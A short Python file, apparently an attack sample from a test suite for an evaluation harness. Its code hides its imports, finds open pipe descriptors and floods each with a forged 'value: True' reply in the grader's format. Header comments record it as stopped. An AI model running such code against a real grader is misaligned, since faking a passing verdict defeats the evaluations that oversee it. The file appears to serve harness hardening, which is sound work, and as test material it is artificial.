# tries: to answer in the runner's place: well-formed replies into every pipe it can find
# fails: a reply is a value, never a verdict; it would have to be the right value
# goal: forge
# stopped from: T0
# undefended: elsewhere: points where what comes through the pipe is the verdict
os, stat = map(__builtins__["__import__"], ("os", "stat"))
VALUE = b"d\0\0\0\1" + b"\0\0\0\5value" + b"T"  # {"value": True} in the grader's format


def attack(*arguments, **keywords):
    for descriptor in range(64):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                os.write(descriptor, (len(VALUE).to_bytes(4, "big") + VALUE) * 100)
        except OSError:
            continue
    return True
